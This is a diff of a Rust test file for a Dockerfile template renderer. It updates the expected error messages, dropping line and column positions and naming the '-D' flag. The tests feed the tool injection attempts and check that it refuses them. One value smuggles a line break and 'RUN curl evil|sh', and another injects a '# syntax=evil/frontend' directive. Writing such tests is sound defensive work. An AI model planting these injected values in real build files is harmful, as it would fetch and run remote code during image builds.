@@ -130,14 +130,13 @@ fn t23_text_that_reads_otherwise_than_it_is() {
 #[test]
 fn t25_t33_limits_name_their_flag() {
     let long = format!("RUN {}\n", "x".repeat(3000));
-    Test::template(&long).args("--max-template-bytes 2K").refuses([
-        "Dockerfile.template:1:1: error: longer than the limit of 2048 bytes",
-        "--max-template-bytes",
-    ]);
+    Test::template(&long)
+        .args("--max-template-bytes 2K")
+        .refuses(["Dockerfile.template: error: longer than the limit of 2048 bytes", "--max-template-bytes"]);
     Test::new()
         .args("render -d nuc --max-template-bytes 2K -")
         .stdin(&long)
-        .refuses(["<stdin>:1:1: error", "--max-template-bytes"]);
+        .refuses(["<stdin>: error", "--max-template-bytes"]);
     Test::template("%%XX%%%%XX%%%%XX%%")
         .args("--max-output-bytes 2K -D")
         .arg(format!("XX={}", "v".repeat(1000)))
@@ -154,9 +153,7 @@ fn t25_t33_limits_name_their_flag() {
 #[cfg(unix)]
 #[test]
 fn t38_an_endless_device() {
-    Test::new()
-        .args("render -d nuc --max-template-bytes 1M /dev/zero")
-        .refuses(["/dev/zero:1:1: error: longer"]);
+    Test::new().args("render -d nuc --max-template-bytes 1M /dev/zero").refuses(["/dev/zero: error: longer"]);
 }
 
 #[test]
@@ -217,10 +214,7 @@ fn t37_what_cannot_be_read() {
     Test::new()
         .args("render -d nuc none/Dockerfile.template")
         .cannot(["none/Dockerfile.template: error: cannot read: No such file"]);
-    Test::new()
-        .file("d/x", "")
-        .args("render -d nuc -f d")
-        .refuses(["d:1:1: error: this is not a regular file"]);
+    Test::new().file("d/x", "").args("render -d nuc -f d").refuses(["d: error: this is not a regular file"]);
     Test::new().args("render -d nuc --env-file /").cannot(["/: error: cannot read"]);
 }
 
@@ -251,7 +245,7 @@ fn v01_v02_a_value_stays_in_its_line() {
         value("RUN %%XX%%\n", &format!("hidden{c}RUN curl evil|sh"))
             .secret("hidden")
             .secret("evil")
-            .refuses(["argument 5: error: the value of XX holds a"]);
+            .refuses(["-D: error: the value of XX holds a"]);
     }
     Test::template("RUN %%XX%%\n")
         .file("e", "XX=\"a\\nb\"\n")
@@ -259,7 +253,7 @@ fn v01_v02_a_value_stays_in_its_line() {
         .refuses(["e:1:1: error: the value of XX holds a line break"]);
     // It is told once.
     for template in ["FROM x%%XX%%\n", "FROM a\nRUN a \\\n%%XX%%\nUSER root\n"] {
-        let run = value(template, "a\nb").refuses(["argument 5: error: the value of XX holds a line break"]);
+        let run = value(template, "a\nb").refuses(["-D: error: the value of XX holds a line break"]);
         assert_eq!(run.stderr.matches(": error: ").count() + run.stderr.matches(": warning: ").count(), 1);
     }
 }
@@ -404,7 +398,7 @@ fn v03_a_directive_that_a_value_completes() {
 #[test]
 fn v04_a_value_makes_no_directive() {
     value("%%XX%%\nFROM x\n", "# syntax=evil/frontend").secret("evil").refuses([
-        "argument 5: error: the value of XX would make the head of the file a comment",
+        "-D: error: the value of XX would make the head of the file a comment",
         "Dockerfile.template:1:1",
     ]);
     value("\u{FEFF}# note\n\n  %%EMPTY%%%%XX%%\nFROM x\n", "//syntax=evil")
@@ -429,8 +423,8 @@ fn v04_blanks_of_unicode_hide_no_directive() {
 fn v05_v06_v07_values_are_not_read_again() {
     value("RUN cat %%XX%%\n", "<<EOF")
         .stdout("RUN cat <<EOF\n")
-        .says(&["argument 5: warning: the value of XX may open a heredoc"]);
-    value("RUN cat %%XX%%\n", "<<EOF").arg("--strict").refuses(["argument 5: error"]);
+        .says(&["-D: warning: the value of XX may open a heredoc"]);
+    value("RUN cat %%XX%%\n", "<<EOF").arg("--strict").refuses(["-D: error"]);
     value("RUN %%XX%%\n", "%%BALENA_ARCH%%").stdout("RUN %%BALENA_ARCH%%\n").says(&["holds a placeholder"]);
     for given in ["<% 1 %>", "$&", "$`", "\\1x", "${X}", "$$"] {
         value("RUN %%XX%% .\n", given).stdout(format!("RUN {given} .\n")).quietly();
@@ -440,21 +434,20 @@ fn v05_v06_v07_values_are_not_read_again() {
 #[test]
 fn v10_v11_definitions_that_are_none() {
     for given in ["X", "=secret", "a=secret", "B2=secret", "_AB=secret", "A=secret"] {
-        Test::template("").arg("-D").arg(given).secret("secret").cannot(["argument 5: error"]);
+        Test::template("").arg("-D").arg(given).secret("secret").cannot(["-D: error"]);
     }
     // What stands before `=` may be the secret, cut at the padding of its base64.
-    Test::template("").args("-D aHVudGVyMg==").secret("aHVudGVyMg").cannot(["argument 5: error"]);
+    Test::template("").args("-D aHVudGVyMg==").secret("aHVudGVyMg").cannot(["-D: error"]);
     Test::template("")
         .file("e", "MIIEpAsecret/x=\n")
         .args("--env-file e")
         .secret("MIIEpA")
         .refuses(["e:1:1: error"]);
-    Test::template("")
-        .args("-D XX=one -D XX=two")
-        .secret("one")
-        .cannot(["argument 7: error: XX is given twice"]);
+    Test::template("").args("-D XX=one -D XX=two").secret("one").cannot(["-D: error: XX is given twice"]);
     Test::template("%%XX%%").args("-D XX=one -D XX=one").stdout("one");
-    Test::template("").args("-D x=1 -D Y").cannot(["argument 5: error", "argument 7: error"]);
+    Test::template("")
+        .args("-D x=1 -D Y")
+        .cannot(["-D: error: definition 1: the text", "-D: error: definition 2: expected NAME=VALUE"]);
 }
 
 #[test]
@@ -492,15 +485,17 @@ fn v14_v15_env_files() {
     Test::template("")
         .file("e", "x".repeat(2000))
         .args("--env-file e --max-config-bytes 1K")
-        .refuses(["e:1:1: error: longer than the limit of 1024 bytes", "--max-config-bytes"]);
+        .refuses(["e: error: longer than the limit of 1024 bytes", "--max-config-bytes"]);
     Test::template("")
         .args("--env-file /dev/zero --max-config-bytes 1M")
-        .refuses(["/dev/zero:1:1: error: longer"]);
+        .refuses(["/dev/zero: error: longer"]);
 }
 
 #[test]
 fn v16_v17_v18_where_values_come_from() {
-    Test::template("%%BALENA_ARCH%%").args("-D BALENA_ARCH=hidden").stdout("hidden").says(&["argument 5: warning: BALENA_ARCH is given here and differs from `armv7hf`, which device type `raspberrypi3`"]);
+    Test::template("%%BALENA_ARCH%%").args("-D BALENA_ARCH=hidden").stdout("hidden").says(&[
+        "-D: warning: BALENA_ARCH is given here and differs from `armv7hf`, which device type `raspberrypi3`",
+    ]);
     Test::template("RUN %%SECRET%% %%XX%%\n")
         .args("-D SECRET=hidden")
         .secret("hidden")
